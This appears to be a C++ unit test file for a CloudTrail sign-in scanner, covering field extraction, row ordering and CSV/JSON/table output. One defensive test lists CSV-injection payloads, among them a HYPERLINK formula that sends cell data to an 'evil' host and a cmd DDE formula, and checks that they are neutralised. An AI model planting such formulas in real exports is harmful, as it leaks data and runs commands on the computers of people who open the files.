// Match row fields from the AWS sign-in samples (docs/reference/formats.md §2.2, §2.3), the row
// order, and the output formats.
#include "scan/match_row.h"

#include <gtest/gtest.h>
#include <simdjson.h>

#include <algorithm>

#include "scan/scan_output.h"
#include "scan/scan_test_util.h"

namespace trailwatch::scan {
namespace {

using trailwatch::testing::ReadFixture;

MatchRow RowFor(const std::string& fixture) {
  MatchRowReader reader;
  MatchRow row;
  Status status = reader.FillFromRecord(ReadFixture("aws/cloudtrail/" + fixture), &row);
  EXPECT_TRUE(status.ok()) << status.message();
  return row;
}

TEST(MatchRow, RootSuccessWithUpperCaseMfa) {
  MatchRow row = RowFor("root-consolelogin-success-mfa.json");
  EXPECT_EQ(row.identity_type, "Root");
  EXPECT_EQ(row.identity, "arn:aws:iam::111122223333:root");
  EXPECT_EQ(row.event_name, "ConsoleLogin");
  EXPECT_EQ(row.result, "Success");
  EXPECT_EQ(row.mfa_used, "yes");  // "MFAUsed": "YES"
  EXPECT_EQ(row.event_id, "deb1e1f9-c99b-4612-8e9f-21f93b5d79c0");
  EXPECT_FALSE(row.source_ip.empty());
  EXPECT_FALSE(row.user_agent.empty());
}

TEST(MatchRow, FailuresAndIamUserWithoutArn) {
  MatchRow root = RowFor("root-consolelogin-failure.json");
  EXPECT_EQ(root.result, "Failure");
  EXPECT_EQ(root.mfa_used, "no");
  MatchRow iam = RowFor("iam-user-consolelogin-failure.json");
  EXPECT_EQ(iam.identity_type, "IAMUser");
  EXPECT_EQ(iam.identity, "user/anaya");  // the failure sample has no arn
  EXPECT_EQ(iam.result, "Failure");
  EXPECT_EQ(iam.mfa_used, "yes");
}

TEST(MatchRow, ApiCallsUseErrorCodeAndSessionMfa) {
  MatchRow enable = RowFor("root-enablemfadevice.json");
  EXPECT_EQ(enable.result, "Success");
  EXPECT_EQ(enable.mfa_used, "no");  // sessionContext.attributes.mfaAuthenticated "false"
  MatchRowReader reader;
  MatchRow row;
  ASSERT_TRUE(reader
                  .FillFromRecord(R"({"userIdentity":{"type":"AssumedRole","principalId":"P:x"},
                     "eventName":"PutObject","errorCode":"AccessDenied"})",
                                  &row)
                  .ok());
  EXPECT_EQ(row.result, "AccessDenied");
  EXPECT_EQ(row.identity, "P:x");
  EXPECT_EQ(row.mfa_used, "unknown");  // missing is never "no"
}

TEST(MatchRow, EventBridgeEventFillsHeaderAndDetail) {
  MatchRowReader reader;
  MatchRow row;
  std::string event =
      ReadFixture("aws/eventbridge/root-consolelogin-success-mfa.envelope.constructed.json");
  ASSERT_TRUE(reader.FillFromEvent(event, &row).ok());
  EXPECT_EQ(row.time, "2022-11-10T16:24:34Z");
  EXPECT_EQ(row.account, "111122223333");
  EXPECT_EQ(row.region, "us-east-1");
  EXPECT_EQ(row.mfa_used, "yes");
  auto header = reader.ReadEventHeader(event);
  ASSERT_TRUE(header.ok());
  EXPECT_EQ(header->time, "2022-11-10T16:24:34Z");
}

TEST(MatchRow, OrderIsTimeThenOriginThenPosition) {
  std::vector<MatchRow> rows(4);
  rows[0].time = "2024-01-02T00:00:00Z";
  rows[1].time = "2024-01-01T00:00:00Z", rows[1].origin = "b", rows[1].record_index = 0;
  rows[2].time = "2024-01-01T00:00:00Z", rows[2].origin = "a", rows[2].record_index = 5;
  rows[3].time = "2024-01-01T00:00:00Z", rows[3].origin = "a", rows[3].record_index = 2;
  std::sort(rows.begin(), rows.end(), RowBefore);
  EXPECT_EQ(rows[0].record_index, 2u);
  EXPECT_EQ(rows[1].record_index, 5u);
  EXPECT_EQ(rows[2].origin, "b");
  EXPECT_EQ(rows[3].time, "2024-01-02T00:00:00Z");
}

MatchRow Tricky() {
  MatchRow row;
  row.time = "2024-01-01T00:00:00Z";
  row.identity = "user/a,\"b\"\nc";
  row.user_agent = std::string(100, 'x');
  row.origin = "f.json";
  return row;
}

TEST(ScanOutput, CsvQuotesPerRfc4180) {
  std::vector<MatchRow> rows = {Tricky()};
  std::string csv = FormatRows(rows, OutputFormat::kCsv);
  EXPECT_EQ(csv.substr(0, csv.find("\r\n")),
            "time,account,region,rule,identity_type,identity,event_name,result,mfa_used,"
            "source_ip,user_agent,event_id,origin");
  EXPECT_NE(csv.find(",\"user/a,\"\"b\"\"\nc\","), std::string::npos) << csv;
  EXPECT_EQ(csv.substr(csv.size() - 2), "\r\n");
}

MatchRow RealisticRow() {
  MatchRow row;
  row.time = "2024-11-25T17:51:21Z";
  row.account = "111122223333";
  row.region = "us-east-1";
  row.rule = "root-signin";
  row.identity_type = "Root";
  row.identity = "arn:aws:iam::111122223333:root";
  row.event_name = "ConsoleLogin";
  row.result = "Success";
  row.mfa_used = "No";
  row.source_ip = "192.0.2.0";
  row.user_agent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.12; rv:62.0) Gecko/20100101 Firefox/62.0";
  row.event_id = "deb1e1f9-c99b-4612-8e9f-21f93b5d79c0";
  row.origin = "s3://org-trail/AWSLogs/o-abc/111122223333/CloudTrail/us-east-1/2024/11/25/"
               "111122223333_CloudTrail_us-east-1_20241125T1755Z_abc.json.gz";
  return row;
}

size_t LongestLine(const std::string& text) {
  size_t longest = 0, start = 0;
  while (start < text.size()) {
    size_t end = text.find('\n', start);
    if (end == std::string::npos) end = text.size();
    longest = std::max(longest, end - start);
    start = end + 1;
  }
  return longest;
}

// A terminal of 200 or 160 columns gets a table that fits: user agent, origin, event id and
// identity are cut with "..." in that order; time, account, region and rule never are.
TEST(ScanOutput, TableFitsTheTerminalByCuttingTheWidestColumns) {
  std::vector<MatchRow> rows = {RealisticRow(), RealisticRow()};
  std::string whole = FormatRows(rows, OutputFormat::kTable);
  ASSERT_GT(LongestLine(whole), 250u) << whole;
  EXPECT_NE(whole.find(rows[0].origin), std::string::npos);  // no width: origin whole
  for (size_t width : {200u, 160u}) {
    std::string fitted = FormatRows(rows, OutputFormat::kTable, width);
    EXPECT_LE(LongestLine(fitted), width) << fitted;
    EXPECT_NE(fitted.find("2024-11-25T17:51:21Z  111122223333  us-east-1  root-signin"),
              std::string::npos)
        << fitted;
    EXPECT_EQ(fitted.find(rows[0].origin), std::string::npos) << fitted;
    EXPECT_NE(fitted.find("s3://or..."), std::string::npos) << fitted;  // its start stays
    EXPECT_NE(fitted.find("..."), std::string::npos);
  }
  // At 200 the identity, cut after the user agent, origin and event id, is still whole.
  std::string at200 = FormatRows(rows, OutputFormat::kTable, 200);
  EXPECT_NE(at200.find(rows[0].identity + "  "), std::string::npos) << at200;
  // Too narrow for even the minimum cuts: cut as far as allowed, never below kMinCutWidth.
  std::string narrow = FormatRows(rows, OutputFormat::kTable, 40);
  EXPECT_NE(narrow.find("  s3://or...\n"), std::string::npos) << narrow;
  EXPECT_NE(narrow.find("2024-11-25T17:51:21Z"), std::string::npos) << narrow;
}

// OWASP "CSV injection": an attacker chooses the user agent of the calls they make; a cell that
// begins with = + - @ tab or CR would run as a formula where the CSV is opened.
TEST(ScanOutput, CsvNeutralisesCellsThatASpreadsheetWouldRunAsFormulas) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"=HYPERLINK(\"http://evil/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\""},
      {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
      {"-2+3", "\"'-2+3\""},
      {"@SUM(A1)", "\"'@SUM(A1)\""},
      {"\t=1", "\"'\t=1\""},
      {"\r=1", "\"'\r=1\""},
      {"aws-cli/2.15 =x", "aws-cli/2.15 =x"},  // only the first character matters
  };
  for (const auto& [agent, cell] : cases) {
    MatchRow row;
    row.user_agent = agent;
    std::string csv = FormatRows(std::vector<MatchRow>{row}, OutputFormat::kCsv);
    EXPECT_NE(csv.find("," + cell + ","), std::string::npos) << agent << "\n" << csv;
  }
}

TEST(ScanOutput, JsonAndJsonLinesParse) {
  std::vector<MatchRow> rows = {Tricky(), Tricky()};
  simdjson::dom::parser parser;
  simdjson::dom::element array;
  std::string json = FormatRows(rows, OutputFormat::kJson);
  ASSERT_FALSE(parser.parse(json).get(array));
  ASSERT_EQ(simdjson::dom::array(array).size(), 2u);
  EXPECT_EQ(std::string_view(array.at(0)["identity"]), "user/a,\"b\"\nc");
  EXPECT_EQ(FormatRows({}, OutputFormat::kJson), "[]\n");
  EXPECT_EQ(testing::Column(FormatRows(rows, OutputFormat::kJsonLines), "identity"),
            (std::vector<std::string>{"user/a,\"b\"\nc", "user/a,\"b\"\nc"}));
}

TEST(ScanOutput, TableIsAlignedAndTerminalSafe) {
  std::vector<MatchRow> rows = {Tricky()};
  std::string table = FormatRows(rows, OutputFormat::kTable);
  EXPECT_EQ(table.find('\n'), table.find("ORIGIN") + 6);       // header line
  EXPECT_NE(table.find("user/a,\"b\"?c"), std::string::npos);  // newline shown as '?'
  std::string cut(57, 'x');  // appended, not + "...": a GCC 12 -Wstringop-overflow false positive
  cut += "...";
  EXPECT_NE(table.find(cut), std::string::npos);
  EXPECT_EQ(table.find(std::string(58, 'x')), std::string::npos);
  EXPECT_EQ(FormatRows({}, OutputFormat::kTable), "No matches.\n");
  EXPECT_FALSE(ParseOutputFormat("xml").ok());
}

}  // namespace
}  // namespace trailwatch::scan
